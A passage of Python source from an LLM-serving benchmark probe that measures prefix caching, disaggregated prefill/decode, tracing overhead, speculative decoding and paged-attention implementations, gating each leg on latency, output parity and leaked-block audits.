        "new_tokens": new_tokens,
    }, outs


def run_prefix_leg(args, cfg, params, platform, fast):
    """Cache ON vs OFF on the shared-system-prompt workload.

    Both schedulers use small blocks/chunks so the shared prefix spans
    many prefill dispatches — prefill chunks are fixed-shape, so the
    cache's TTFT win is proportional to the number of chunk dispatches
    it skips.  A warm pass populates the ON scheduler's tree; the
    measured pass replays the same shared prefix with FRESH tails (new
    user turns).  Gates (exit code): hit rate >= 90% after warm-up,
    TTFT p50 reduced >= 3x, exact temp-0 parity ON vs OFF, zero leaked
    blocks after drain + cache clear."""
    from kubeoperator_trn.infer.scheduler import (
        ContinuousBatchingScheduler, SchedulerConfig)
    from kubeoperator_trn.telemetry import MetricsRegistry

    shared_len = 96 if fast else 160
    n = 12 if fast else 32
    max_new = 8 if fast else 16
    tail_max = 8
    slots = 4
    base = dict(slots=slots, block_size=8, prefill_chunk=8,
                max_seq=min(cfg.max_seq_len, shared_len + tail_max
                            + max_new))
    reg_on, reg_off = MetricsRegistry(), MetricsRegistry()
    on = ContinuousBatchingScheduler(
        cfg, params, SchedulerConfig(prefix_cache=True, **base),
        registry=reg_on)
    off = ContinuousBatchingScheduler(
        cfg, params, SchedulerConfig(prefix_cache=False, **base),
        registry=reg_off)
    log(f"probe: prefix leg shared={shared_len} n={n} tail<={tail_max} "
        f"block={on.sc.block_size} chunk={on.sc.prefill_chunk} "
        f"kv_blocks={on.sc.num_blocks}")

    # warm pass: traces every jit shape on both paths and populates the
    # ON scheduler's radix tree with the shared prefix
    warm = make_prefix_requests(cfg, n, shared_len, tail_max, max_new,
                                seed=args.seed, tail_seed=args.seed + 101)
    run_closed_loop(on, warm, slots)
    run_closed_loop(off, warm, slots)

    # measured pass: same shared prefix, fresh user-turn tails
    reqs = make_prefix_requests(cfg, n, shared_len, tail_max, max_new,
                                seed=args.seed, tail_seed=args.seed + 202)
    hits0 = on.m["prefix_hits"].value
    lv_on, outs_on = run_closed_loop(on, reqs, slots)
    lv_off, outs_off = run_closed_loop(off, reqs, slots)
    hit_rate = (on.m["prefix_hits"].value - hits0) / n
    parity_ok = outs_on == outs_off
    speedup = (lv_off["ttft_p50_ms"] / lv_on["ttft_p50_ms"]
               if lv_on["ttft_p50_ms"] else float("inf"))

    # drain audit: no live blocks, and after the cache hands back its
    # refcount-0 retained blocks, the free list must be whole again
    leaked = {"on_used": on.alloc.num_used,
              "off_used": off.alloc.num_used,
              "cache_cleared": on.prefix.clear(),
              "on": on.alloc.capacity - on.alloc.num_free,
              "off": off.alloc.capacity - off.alloc.num_free}
    blocks_leaked = (leaked["on"] + leaked["off"] + leaked["on_used"]
                     + leaked["off_used"])
    result = {
        "metric": "serve_prefix_cache",
        "platform": platform,
        "preset": args.preset,
        "fast": fast,
        "requests": n,
        "shared_len": shared_len,
        "sched": {"slots": on.sc.slots, "block_size": on.sc.block_size,
                  "num_blocks": on.sc.num_blocks,
                  "prefill_chunk": on.sc.prefill_chunk},
        "cache_on": lv_on,
        "cache_off": lv_off,
        "ttft_p50_speedup": round(speedup, 2),
        "hit_rate": round(hit_rate, 3),
        "tokens_saved": int(on.m["prefix_tokens_saved"].value),
        "evictions": int(
            reg_on.counter("ko_work_infer_prefix_evictions_total",
                           "").value),
        "parity_temp0_on_vs_off": parity_ok,
        "blocks_leaked": blocks_leaked,
        "leak_detail": leaked,
    }
    log(f"probe: prefix hit_rate={result['hit_rate']} "
        f"ttft {lv_off['ttft_p50_ms']}ms -> {lv_on['ttft_p50_ms']}ms "
        f"({result['ttft_p50_speedup']}x) parity={parity_ok} "
        f"leaked={blocks_leaked}")
    emit(json.dumps(result))
    if (hit_rate < 0.9 or speedup < 3.0 or not parity_ok
            or blocks_leaked != 0):
        sys.exit(1)


def run_disagg_leg(args, cfg, params, platform, fast):
    """Mixed vs disaggregated prefill/decode (ISSUE 15) on a
    prefill-heavy workload: long prompts, so a mixed scheduler's decode
    cadence is repeatedly pre-empted by chunked prefill dispatches
    while a dedicated decode pool only ever runs decode steps.  The
    in-process handoff fn round-trips the real wire format
    (pack/unpack) into a second scheduler's pool.  Gates (exit code):
    bitwise temp-0 parity disagg vs mixed, zero leaked blocks on BOTH
    pools, every handoff completed ok, and decode ITL p95 strictly
    better than mixed under the same load.

    Workload shape matters on a small shared-CPU box, so this leg
    deliberately departs from the tiny preset and the other legs'
    parameters:

    * the model is scaled up (dim 256 x 4 layers) so a prefill chunk
      costs real compute — at dim 64 every step is dispatch-overhead
      and mixed and decode gaps are indistinguishable;
    * the request count exceeds the slot count, so the mixed scheduler
      keeps a prefill backlog alive through the run and its decode
      gaps serially pay chunk + decode; the decode pool's gaps during
      the same window only absorb a time-slice of the prefill pool's
      chunks (the two schedulers share the CPU), which is exactly the
      latency interleave disaggregation removes;
    * each run makes several passes (fresh prompts each, so no prefix
      hits) through the SAME schedulers: the ITL histograms pool
      across passes, so one OS-noise-inflated tail cannot put a single
      fat sample at p95 the way it can in a one-pass run with ~60 gap
      samples.
    """
    import dataclasses

    import numpy as np

    from kubeoperator_trn.infer import handoff as ho
    from kubeoperator_trn.infer.scheduler import (
        ContinuousBatchingScheduler, SchedulerConfig)
    from kubeoperator_trn.models import llama
    from kubeoperator_trn.telemetry import MetricsRegistry

    cfg = dataclasses.replace(
        cfg, dim=256, n_layers=4, n_heads=8, n_kv_heads=4, ffn_dim=1024,
        vocab_size=2048, max_seq_len=512)
    params = llama.init_params_numpy(cfg, args.seed)

    n, slots, max_new, chunk = 4, 2, 48, 64
    passes = 3 if fast else 5
    p_lo, p_hi = 193, 257  # every prompt is exactly 4 prefill chunks
    base = dict(slots=slots, block_size=16, prefill_chunk=chunk,
                max_seq=p_hi - 1 + max_new)
    rng = np.random.default_rng(args.seed)

    def mk_reqs():
        out = []
        for _ in range(n):
            s = int(rng.integers(p_lo, p_hi))
            prompt = rng.integers(0, cfg.vocab_size,
                                  size=s).astype(np.int32)
            out.append((prompt, max_new))
        return out

    pass_reqs = [mk_reqs() for _ in range(passes)]
    bytes_moved = [0]

    def wire(pre, dec):
        """In-process stand-in for HandoffClient.send -> POST
        /kv_handoff: full wire-format round trip into the decode
        scheduler's own pool, blocking (it runs on the scheduler's
        per-handoff worker thread, never under its lock)."""
        def fn(meta, k_pages, v_pages):
            blob = ho.pack_handoff(meta, k_pages, v_pages)
            bytes_moved[0] += len(blob)
            meta2, k2, v2 = ho.unpack_handoff(blob)
            req = dec.submit_handoff(meta2, k2, v2)
            req.result(timeout=120.0)
            return list(req.tokens), "local-decode"
        pre.set_handoff(fn)

    def make(role, registry):
        return ContinuousBatchingScheduler(
            cfg, params, SchedulerConfig(role=role, **base),
            registry=registry)

    log(f"probe: disagg leg n={n} passes={passes} "
        f"prompts={p_lo}..{p_hi - 1} max_new={max_new} slots={slots} "
        f"block=16 chunk={chunk} dim={cfg.dim}x{cfg.n_layers}L")

    # warm pass: trace every jit shape on both paths (paged prefill/
    # decode + the export/import transfer jits) with throwaway
    # schedulers — histograms can't reset, so the measured pass gets
    # fresh instances and registries while reusing the compile caches.
    log("probe: disagg warmup (tracing shape buckets)")
    w = make("mixed", MetricsRegistry())
    w.start()
    run_threaded_loop(w, pass_reqs[0], slots)
    w.stop()
    wp, wd = make("prefill", MetricsRegistry()), \
        make("decode", MetricsRegistry())
    wire(wp, wd)
    wp.start(), wd.start()
    run_threaded_loop(wp, pass_reqs[0], slots)
    wp.stop(), wd.stop()
    bytes_moved[0] = 0

    # measured: mixed baseline, ITL histogram pooled over all passes
    mixed = make("mixed", MetricsRegistry())
    mixed.start()
    outs_mixed, lv_mixed = [], None
    for reqs in pass_reqs:
        lv_mixed, outs = run_threaded_loop(mixed, reqs, slots)
        outs_mixed.append(outs)
    mixed.stop()
    itl_mixed = mixed.m["itl"].quantile(0.95)

    # measured: prefill pool -> wire round trip -> decode pool
    pre, dec = make("prefill", MetricsRegistry()), \
        make("decode", MetricsRegistry())
    wire(pre, dec)
    pre.start(), dec.start()
    outs_disagg, lv_disagg = [], None
    for reqs in pass_reqs:
        lv_disagg, outs = run_threaded_loop(pre, reqs, slots)
        outs_disagg.append(outs)
    pre.stop(), dec.stop()
    itl_decode = dec.m["itl"].quantile(0.95)
    handoffs_ok = int(
        pre.hm["total"].labels(direction="out", outcome="ok").value)
    dedup_blocks = int(dec.hm["dedup"].value)

    parity_ok = outs_disagg == outs_mixed
    # NaN-safe: an empty histogram means the leg didn't decode at all
    itl_ok = (itl_mixed == itl_mixed and itl_decode == itl_decode
              and itl_decode < itl_mixed)

    def leaked(sched):
        # the prefix cache legitimately retains refcount-0 blocks;
        # hand them back before auditing the free list
        if sched.prefix is not None:
            sched.prefix.clear()
        return sched.alloc.capacity - sched.alloc.num_free
    leak = {"prefill": leaked(pre), "decode": leaked(dec),
            "mixed": leaked(mixed)}
    blocks_leaked = sum(leak.values())

    result = {
        "metric": "serve_disagg",
        "platform": platform,
        "preset": args.preset,
        "fast": fast,
        "requests": n,
        "passes": passes,
        "model": {"dim": cfg.dim, "n_layers": cfg.n_layers,
                  "n_kv_heads": cfg.n_kv_heads},
        "sched": {"slots": slots, "block_size": pre.sc.block_size,
                  "num_blocks": pre.sc.num_blocks,
                  "prefill_chunk": pre.sc.prefill_chunk,
                  "handoff_chunk": pre.sc.handoff_chunk},
        "mixed": lv_mixed,
        "disagg": lv_disagg,
        "itl_p95_ms_mixed": (round(itl_mixed * 1e3, 3)
                             if itl_mixed == itl_mixed else None),
        "itl_p95_ms_decode": (round(itl_decode * 1e3, 3)
                              if itl_decode == itl_decode else None),
        "handoffs_ok": handoffs_ok,
        "handoff_bytes": bytes_moved[0],
        "dedup_blocks": dedup_blocks,
        "parity_temp0_disagg_vs_mixed": parity_ok,
        "itl_p95_decode_lt_mixed": itl_ok,
        "blocks_leaked": blocks_leaked,
        "leak_detail": leak,
    }
    log(f"probe: disagg itl_p95 mixed={result['itl_p95_ms_mixed']}ms "
        f"decode={result['itl_p95_ms_decode']}ms parity={parity_ok} "
        f"handoffs={handoffs_ok}/{n * passes} bytes={bytes_moved[0]} "
        f"leaked={blocks_leaked}")
    emit(json.dumps(result))
    if (not parity_ok or not itl_ok or blocks_leaked != 0
            or handoffs_ok != n * passes):
        sys.exit(1)


def run_trace_leg(args, cfg, params, platform, fast):
    """Distributed-tracing leg (ISSUE 19): the disagg topology with a
    per-pool span ring, exit-gated on the three properties the tracing
    plane promises:

      1. a kept slow request assembles into a COMPLETE cross-replica
         waterfall (queue, per-chunk prefill, handoff ship+import,
         decode window, request roots — no orphans) — exercised through
         the TAIL path (KO_TRACE_SAMPLE=0, KO_TRACE_SLOW_MS=1), so the
         retro-replay of stashed spans is what's under test;
      2. the decode ITL histogram carries a trace exemplar, so the
         decode-latency SLO alert links to a concrete trace;
      3. tracing on (sample=1.0) costs <= 10% decode ITL p95 over
         tracing off (sample=0, no tail keep) under identical load.
    """
    import dataclasses

    import numpy as np

    from kubeoperator_trn.infer import handoff as ho
    from kubeoperator_trn.infer.scheduler import (
        ContinuousBatchingScheduler, SchedulerConfig)
    from kubeoperator_trn.models import llama
    from kubeoperator_trn.telemetry import MetricsRegistry, Tracer
    from kubeoperator_trn.telemetry.tracestore import TraceStore

    cfg = dataclasses.replace(
        cfg, dim=256, n_layers=4, n_heads=8, n_kv_heads=4, ffn_dim=1024,
        vocab_size=2048, max_seq_len=512)
    params = llama.init_params_numpy(cfg, args.seed)

    n, slots, max_new, chunk = 4, 2, 48, 64
    passes = 2 if fast else 4
    p_lo, p_hi = 193, 257
    base = dict(slots=slots, block_size=16, prefill_chunk=chunk,
                max_seq=p_hi - 1 + max_new)
    rng = np.random.default_rng(args.seed)

    def mk_reqs():
        return [(rng.integers(0, cfg.vocab_size,
                              size=int(rng.integers(p_lo, p_hi))
                              ).astype(np.int32), max_new)
                for _ in range(n)]

    pass_reqs = [mk_reqs() for _ in range(passes)]

    def wire(pre, dec):
        def fn(meta, k_pages, v_pages):
            blob = ho.pack_handoff(meta, k_pages, v_pages)
            meta2, k2, v2 = ho.unpack_handoff(blob)
            req = dec.submit_handoff(meta2, k2, v2)
            req.result(timeout=120.0)
            return list(req.tokens), "local-decode"
        pre.set_handoff(fn)

    def run_pool(tr_pre, tr_dec, reqs_list):
        """One prefill+decode topology over reqs_list; returns the
        schedulers (stopped) for metric/ring inspection."""
        pre = ContinuousBatchingScheduler(
            cfg, params, SchedulerConfig(role="prefill", **base),
            registry=MetricsRegistry(), tracer=tr_pre)
        dec = ContinuousBatchingScheduler(
            cfg, params, SchedulerConfig(role="decode", **base),
            registry=MetricsRegistry(), tracer=tr_dec)
        wire(pre, dec)
        pre.start(), dec.start()
        for reqs in reqs_list:
            run_threaded_loop(pre, reqs, slots)
        pre.stop(), dec.stop()
        return pre, dec

    env_keys = ("KO_TRACE_SAMPLE", "KO_TRACE_SLOW_MS")
    saved = {k: os.environ.get(k) for k in env_keys}
    try:
        log(f"probe: trace leg n={n} passes={passes} max_new={max_new} "
            f"dim={cfg.dim}x{cfg.n_layers}L")
        os.environ["KO_TRACE_SAMPLE"] = "0"
        os.environ["KO_TRACE_SLOW_MS"] = "0"
        log("probe: trace warmup (tracing shape buckets)")
        run_pool(Tracer(), Tracer(), pass_reqs[:1])

        # tracing OFF baseline: head sampling 0, tail keep disabled
        pre_off, dec_off = run_pool(Tracer(), Tracer(), pass_reqs)
        itl_off = dec_off.m["itl"].quantile(0.95)
        spans_off = len(dec_off.tracer.spans) + len(pre_off.tracer.spans)

        # tracing ON: every request head-sampled, full span stream
        os.environ["KO_TRACE_SAMPLE"] = "1.0"
        t_pre, t_dec = Tracer(), Tracer()
        pre_on, dec_on = run_pool(t_pre, t_dec, pass_reqs)
        itl_on = dec_on.m["itl"].quantile(0.95)
        exemplars = dec_on.m["itl"].exemplars()
        exemplar_ok = any(tid for _, tid, _ in exemplars)

        # tail keep: sampling off but everything is "slow", so the
        # stashed phase spans replay at completion and the waterfall
        # must still assemble completely across both pools
        os.environ["KO_TRACE_SAMPLE"] = "0"
        os.environ["KO_TRACE_SLOW_MS"] = "1"
        t_pre2, t_dec2 = Tracer(), Tracer()
        run_pool(t_pre2, t_dec2, pass_reqs[:1])
    finally:
        for k, v in saved.items():
            if v is None:
                os.environ.pop(k, None)
            else:
                os.environ[k] = v

    ts = TraceStore()
    ts.ingest(t_pre2.export(0, 2048)["spans"], replica="prefill-0")
    ts.ingest(t_dec2.export(0, 2048)["spans"], replica="decode-0")
    kept = [s["trace_id"] for s in t_dec2.spans
            if s["name"] == "infer.request"]
    wf = ts.get(kept[0]) if kept else None
    names = {s["name"] for s in (wf["spans"] if wf else [])}
    need = {"infer.queue", "infer.prefill_chunk", "handoff.ship",
            "handoff.import", "infer.decode_window", "infer.request"}
    waterfall_ok = (
        wf is not None and need <= names and wf["orphans"] == 0
        and sorted(wf["lanes"]) == ["decode-0", "prefill-0"]
        and wf["gaps"]["total_ms"] > 0)

    # NaN-safe overhead ratio (empty histogram = leg didn't decode)
    overhead = (itl_on / itl_off
                if itl_on == itl_on and itl_off == itl_off and itl_off > 0
                else float("nan"))
    overhead_ok = overhead == overhead and overhead <= 1.10

    result = {
        "metric": "serve_trace",
        "platform": platform,
        "preset": args.preset,
        "fast": fast,
        "requests": n,
        "passes": passes,
        "model": {"dim": cfg.dim, "n_layers": cfg.n_layers},
        "itl_p95_ms_off": (round(itl_off * 1e3, 3)
                           if itl_off == itl_off else None),
        "itl_p95_ms_on": (round(itl_on * 1e3, 3)
                          if itl_on == itl_on else None),
        "overhead_ratio": (round(overhead, 4)
                           if overhead == overhead else None),
        "overhead_le_1_10": overhead_ok,
        "spans_when_off": spans_off,
        "spans_on_prefill": len(t_pre.spans),
        "spans_on_decode": len(t_dec.spans),
        "itl_exemplar": exemplar_ok,
        "tail_waterfall_complete": waterfall_ok,
        "tail_waterfall_spans": sorted(names),
        "tail_waterfall_gaps": wf["gaps"] if wf else None,
    }
    log(f"probe: trace itl_p95 off={result['itl_p95_ms_off']}ms "
        f"on={result['itl_p95_ms_on']}ms "
        f"ratio={result['overhead_ratio']} exemplar={exemplar_ok} "
        f"waterfall={waterfall_ok} spans_off={spans_off}")
    emit(json.dumps(result))
    if not (waterfall_ok and exemplar_ok and overhead_ok
            and spans_off == 0):
        sys.exit(1)


class ReplayDrafter:
    """Oracle drafter for the spec leg: replays the recorded baseline
    continuation for whichever request owns the history (longest
    matching recorded prompt prefix wins).  Greedy verification accepts
    an oracle draft with probability ~1, so this isolates the ITL gate
    from drafter quality — the production ``NgramDrafter``'s acceptance
    on a random-weights tiny model is workload noise, not a property of
    the verify plane under test."""

    name = "replay"

    def __init__(self):
        self.table = {}

    def record(self, prompt, full_out):
        key = tuple(int(t) for t in prompt)
        self.table[key] = [int(t) for t in full_out[len(key):]]

    def propose(self, tokens, k):
        import numpy as np

        hist = tuple(int(t) for t in np.asarray(tokens).reshape(-1))
        best = None
        for prompt, cont in self.table.items():
            if len(hist) >= len(prompt) and hist[:len(prompt)] == prompt \
                    and (best is None or len(prompt) > len(best[0])):
                best = (prompt, cont)
        if best is None:
            return np.zeros((0,), np.int32)
        done = len(hist) - len(best[0])
        return np.asarray(best[1][done:done + k], np.int32)


class GarbageDrafter:
    """Adversarial drafter for the rollback audit: proposes tokens that
    almost never match the model's argmax, so every verify iteration
    rejects the whole draft and rewinds.  Output must STILL be bitwise
    identical to plain decode and the KV pool must drain clean."""

    name = "garbage"

    def __init__(self, vocab):
        self.vocab = int(vocab)

    def propose(self, tokens, k):
        import numpy as np

        last = int(tokens[-1]) if len(tokens) else 0
        return ((last + 1 + np.arange(k, dtype=np.int32))
                % self.vocab).astype(np.int32)


def run_spec_leg(args, cfg, params, platform, fast):
    """Speculative decoding (ISSUE 16): draft-verify scheduler vs plain
    decode on the same request set.  Three measured schedulers share
    the process-wide jit caches after a throwaway warmup:

      * spec OFF — the baseline outputs, and the per-token ITL bar;
      * spec ON + ReplayDrafter — acceptance ~1.0, gates bitwise temp-0
        parity and per-token ITL p95 strictly below the baseline at
        acceptance >= 0.5 (one verify dispatch commits up to k+1
        tokens, so the dispatch overhead amortizes);
      * spec ON + GarbageDrafter — every iteration rejects and rewinds;
        gates parity again (rollback must not corrupt the stream) and
        the zero-leak block audit after rollback-heavy traffic.

    All gates fail the probe's exit code."""
    from kubeoperator_trn.infer.scheduler import (
        ContinuousBatchingScheduler, SchedulerConfig)
    from kubeoperator_trn.telemetry import MetricsRegistry

    n = 12 if fast else 24
    max_new = 24 if fast else 48
    slots, spec_k = 4, 4
    reqs = make_requests(cfg, n, max_new, seed=args.seed)

    def make(k, registry):
        return ContinuousBatchingScheduler(
            cfg, params, SchedulerConfig(slots=slots, spec_k=k),
            registry=registry)

    log(f"probe: spec leg n={n} max_new={max_new} slots={slots} "
        f"k={spec_k}")

    # warmup: throwaway schedulers trace the paged prefill/decode and
    # verify shape buckets; histograms can't reset, so the measured
    # passes get fresh instances + registries over warm compile caches
    log("probe: spec warmup (tracing shape buckets)")
    run_closed_loop(make(0, MetricsRegistry()), reqs, slots)
    warm = make(spec_k, MetricsRegistry())
    run_closed_loop(warm, reqs, slots)
    impl = warm.spec.impl

    # baseline: plain decode, one token per dispatch
    base = make(0, MetricsRegistry())
    lv_base, outs_base = run_closed_loop(base, reqs, slots)
    itl_base = base.m["itl"].quantile(0.95)

    # spec + oracle drafts: parity and the amortized-ITL claim
    replay = ReplayDrafter()
    for (prompt, _new), out in zip(reqs, outs_base):
        replay.record(prompt, out)
    spec = make(spec_k, MetricsRegistry())
    spec.spec.drafter = replay
    lv_spec, outs_spec = run_closed_loop(spec, reqs, slots)
    itl_spec = spec.m["itl"].quantile(0.95)
    drafted = int(spec.spec.m["drafted"].value)
    accepted = int(spec.spec.m["accepted"].value)
    accept_rate = accepted / drafted if drafted else 0.0
    parity_spec = outs_spec == outs_base

    # spec + adversarial drafts: rollback-heavy traffic
    garb = make(spec_k, MetricsRegistry())
    garb.spec.drafter = GarbageDrafter(cfg.vocab_size)
    _, outs_garb = run_closed_loop(garb, reqs, slots)
    g_drafted = int(garb.spec.m["drafted"].value)
    g_accepted = int(garb.spec.m["accepted"].value)
    parity_garb = outs_garb == outs_base

    def leaked(sched):
        if sched.prefix is not None:
            sched.prefix.clear()
        return sched.alloc.capacity - sched.alloc.num_free
    leak = {"base": leaked(base), "spec": leaked(spec),
            "garbage": leaked(garb)}
    blocks_leaked = sum(leak.values())

    itl_ok = (itl_base == itl_base and itl_spec == itl_spec
              and itl_spec < itl_base)
    result = {
        "metric": "serve_spec",
        "platform": platform,
        "preset": args.preset,
        "fast": fast,
        "requests": n,
        "spec": {"k": spec_k, "impl": impl,
                 "drafter_measured": "replay"},
        "sched": {"slots": slots, "block_size": spec.sc.block_size,
                  "num_blocks": spec.sc.num_blocks,
                  "prefill_chunk": spec.sc.prefill_chunk},
        "baseline": lv_base,
        "speculative": lv_spec,
        "itl_p95_ms_base": (round(itl_base * 1e3, 3)
                            if itl_base == itl_base else None),
        "itl_p95_ms_spec": (round(itl_spec * 1e3, 3)
                            if itl_spec == itl_spec else None),
        "accept_rate": round(accept_rate, 3),
        "drafted": drafted,
        "accepted": accepted,
        "rollback_accept_rate": (round(g_accepted / g_drafted, 3)
                                 if g_drafted else None),
        "parity_temp0_spec_vs_base": parity_spec,
        "parity_temp0_rollback_vs_base": parity_garb,
        "itl_p95_spec_lt_base": itl_ok,
        "blocks_leaked": blocks_leaked,
        "leak_detail": leak,
    }
    log(f"probe: spec itl_p95 base={result['itl_p95_ms_base']}ms "
        f"spec={result['itl_p95_ms_spec']}ms accept={accept_rate:.3f} "
        f"parity={parity_spec} rollback_parity={parity_garb} "
        f"leaked={blocks_leaked}")
    emit(json.dumps(result))
    if (not parity_spec or not parity_garb or not itl_ok
            or accept_rate < 0.5 or blocks_leaked != 0):
        sys.exit(1)


def run_paged_attn_leg(args, cfg, params, platform, fast):
    """Paged-attention impl leg (ISSUE 17): the resolved serving
    attention implementation against an explicitly pinned "jax"
    (gathered-copy einsum) scheduler on the same request set.

      * temp-0 token parity must be bitwise — the impl switch can only
        change HBM traffic, never the committed stream;
      * the zero-leak block audit must pass under both schedulers;
      * decode ITL p95 under the resolved impl must stay within 1.25x
        of the jax baseline (slack because on CPU both resolve to the
        same XLA code and only measurement noise separates them; on
        neuron the bass kernel is expected to win outright);
      * the analytic byte accounting must be live: the
        ko_work_infer_attn_bytes_total{impl} counter advanced and the
        healthz fragment reports step_bytes <= step_bytes_padded;
      * when bass resolves (neuron), the gathered copy
        [slots, MB*BS, KV, hd] must be absent from the decode
        dispatch's lowered HLO — the whole point of the kernel.  On
        CPU the resolved impl is jax and the gate reports null.

    All gates fail the probe's exit code."""
    import jax.numpy as jnp

    from kubeoperator_trn.infer.scheduler import (
        ContinuousBatchingScheduler, SchedulerConfig)
    from kubeoperator_trn.telemetry import MetricsRegistry

    n = 12 if fast else 24
    max_new = 24 if fast else 48
    slots = 4
    reqs = make_requests(cfg, n, max_new, seed=args.seed)

    def make(impl, registry):
        prev = os.environ.get("KO_PAGED_ATTN_IMPL")
        if impl is None:
            os.environ.pop("KO_PAGED_ATTN_IMPL", None)
        else:
            os.environ["KO_PAGED_ATTN_IMPL"] = impl
        try:
            return ContinuousBatchingScheduler(
                cfg, params, SchedulerConfig(slots=slots),
                registry=registry)
        finally:
            if prev is None:
                os.environ.pop("KO_PAGED_ATTN_IMPL", None)
            else:
                os.environ["KO_PAGED_ATTN_IMPL"] = prev

    log(f"probe: paged_attn leg n={n} max_new={max_new} slots={slots}")

    # warmup: throwaway schedulers trace both impls' shape buckets so
    # the measured passes time steady-state dispatches
    log("probe: paged_attn warmup (tracing shape buckets)")
    run_closed_loop(make("jax", MetricsRegistry()), reqs, slots)
    run_closed_loop(make(None, MetricsRegistry()), reqs, slots)

    base = make("jax", MetricsRegistry())
    lv_base, outs_base = run_closed_loop(base, reqs, slots)
    itl_base = base.m["itl"].quantile(0.95)

    res = make(None, MetricsRegistry())
    impl = res.attn_impl
    lv_res, outs_res = run_closed_loop(res, reqs, slots)
    itl_res = res.m["itl"].quantile(0.95)
    parity = outs_res == outs_base

    bytes_base = base.m["attn_bytes"].labels(impl="jax").value
    bytes_res = res.m["attn_bytes"].labels(impl=impl).value
    report = res.attn_report()
    bytes_ok = (bytes_base > 0 and bytes_res > 0
                and report["step_bytes"] <= report["step_bytes_padded"])
    if impl == "bass":
        bytes_ok = bytes_ok and bytes_res < bytes_base

    # when bass resolves, the gathered copy must not exist in the
    # lowered decode dispatch: its [slots, MB*BS, KV, hd] intermediate
    # is the exact shape the kernel exists to avoid
    gather_absent = None
    if impl == "bass":
        mb_bs = res.max_blocks_per_seq * res.sc.block_size
        needle = f"[{slots},{mb_bs},{cfg.n_kv_heads},{cfg.head_dim}]"
        txt = res._decode_jit.lower(
            res.params, res.pool, jnp.asarray(res._tokens),
            jnp.asarray(res._lens), jnp.asarray(res._tables)).as_text()
        gather_absent = needle not in txt

    def leaked(sched):
        if sched.prefix is not None:
            sched.prefix.clear()
        return sched.alloc.capacity - sched.alloc.num_free
    leak = {"jax": leaked(base), "resolved": leaked(res)}
    blocks_leaked = sum(leak.values())

    itl_ok = (itl_base == itl_base and itl_res == itl_res
              and itl_res <= itl_base * 1.25)
    result = {
        "metric": "serve_paged_attn",
        "platform": platform,
        "preset": args.preset,
        "fast": fast,
        "requests": n,
        "impl": impl,
        "sched": {"slots": slots, "block_size": res.sc.block_size,
                  "num_blocks": res.sc.num_blocks,
                  "prefill_chunk": res.sc.prefill_chunk},
        "baseline_jax": lv_base,
        "resolved": lv_res,
        "itl_p95_ms_jax": (round(itl_base * 1e3, 3)
                           if itl_base == itl_base else None),
        "itl_p95_ms_resolved": (round(itl_res * 1e3, 3)
                                if itl_res == itl_res else None),
        "attn_bytes_jax": int(bytes_base),
        "attn_bytes_resolved": int(bytes_res),
        "attn_report": report,
        "parity_temp0_resolved_vs_jax": parity,
        "itl_p95_within_slack": itl_ok,
        "attn_bytes_accounted": bytes_ok,
        "gathered_copy_absent": gather_absent,
        "blocks_leaked": blocks_leaked,
        "leak_detail": leak,
    }
    log(f"probe: paged_attn impl={impl} "
        f"itl_p95 jax={result['itl_p95_ms_jax']}ms "
        f"resolved={result['itl_p95_ms_resolved']}ms parity={parity} "
        f"bytes={int(bytes_res)}/{int(bytes_base)} leaked={blocks_leaked}")
    emit(json.dumps(result))
    if (not parity or not itl_ok or not bytes_ok
            or blocks_leaked != 0 or gather_absent is False):
        sys.exit(1)


def run_prefill_attn_leg(args, cfg, params, platform, fast):
    """Chunked-prefill attention leg (ISSUE 18): the resolved serving
    attention implementation against an explicitly pinned "jax"
    (gathered-copy einsum) scheduler on a prefill-heavy request set —
    prompts span several chunks, so most prefill dispatches carry
    non-empty paged history and the chunked-prefill kernel (or its
    jax twin) is the TTFT hot path.

      * temp-0 token parity must be bitwise — the impl switch can only
        change HBM traffic, never the committed stream;
      * TTFT p50/p95 deltas are reported; the resolved p50 must stay
        within 1.5x of the jax baseline (CPU: both are the same XLA
        code, only noise separates them; neuron: bass should win);
      * the TTFT split histograms (queue vs prefill-compute, the
        autoscaler's prefill-saturation signal) must be live and the
        components must bound the total;
      * prefill byte accounting must be live: the attn_bytes counter
        advanced under the prefill-class impl label and the healthz
        fragment carries the prefill_* rows;
      * when bass resolves (neuron), the gathered copy
        [1, MB*BS, KV, hd] must be absent from the prefill dispatch's
        lowered HLO.  On CPU the resolved impl is jax → gate is null;
      * zero leaked blocks on every scheduler, including a
        KO_INFER_ROLE=prefill scheduler (the disagg prefill pool) run
        over the same set to prove the pool role exercises the same
        resolved path with parity.

    All gates fail the probe's exit code."""
    import jax.numpy as jnp
    import numpy as np

    from kubeoperator_trn.infer.scheduler import (
        ContinuousBatchingScheduler, SchedulerConfig)
    from kubeoperator_trn.telemetry import MetricsRegistry

    n = 8 if fast else 16
    max_new = 6 if fast else 12
    slots, bs, chunk = 4, 8, 16
    p_lo = chunk * 2 + 1   # >= 2 chunk dispatches with history
    p_hi = min(cfg.max_seq_len - max_new - 1, chunk * 6)
    rng = np.random.default_rng(args.seed)
    reqs = []
    for _ in range(n):
        s = int(rng.integers(p_lo, p_hi + 1))
        reqs.append((rng.integers(0, cfg.vocab_size,
                                  size=s).astype(np.int32), max_new))

    base_kw = dict(slots=slots, block_size=bs, prefill_chunk=chunk,
                   max_seq=p_hi + max_new)

    def make(impl, registry, role="mixed"):
        prev = os.environ.get("KO_PAGED_ATTN_IMPL")
        if impl is None:
            os.environ.pop("KO_PAGED_ATTN_IMPL", None)
        else:
            os.environ["KO_PAGED_ATTN_IMPL"] = impl
        try:
            return ContinuousBatchingScheduler(
                cfg, params, SchedulerConfig(role=role, **base_kw),
                registry=registry)
        finally:
            if prev is None:
                os.environ.pop("KO_PAGED_ATTN_IMPL", None)
            else:
                os.environ["KO_PAGED_ATTN_IMPL"] = prev

    log(f"probe: prefill_attn leg n={n} prompts={p_lo}..{p_hi} "
        f"max_new={max_new} slots={slots} block={bs} chunk={chunk}")

    # warmup: throwaway schedulers trace both impls' shape buckets so
    # the measured passes time steady-state dispatches
    log("probe: prefill_attn warmup (tracing shape buckets)")
    run_closed_loop(make("jax", MetricsRegistry()), reqs, slots)
    run_closed_loop(make(None, MetricsRegistry()), reqs, slots)

    base = make("jax", MetricsRegistry())
    lv_base, outs_base = run_closed_loop(base, reqs, slots)

    res = make(None, MetricsRegistry())
    impl = res.attn_impl
    impl_p = res.attn_impl_by_class.get("prefill", "jax")
    lv_res, outs_res = run_closed_loop(res, reqs, slots)
    parity = outs_res == outs_base

    # TTFT split (satellite 2): both components live, and their p50s
    # can't individually exceed the total's max
    q_cnt = res.m["ttft_queue"].count
    c_cnt = res.m["ttft_prefill"].count
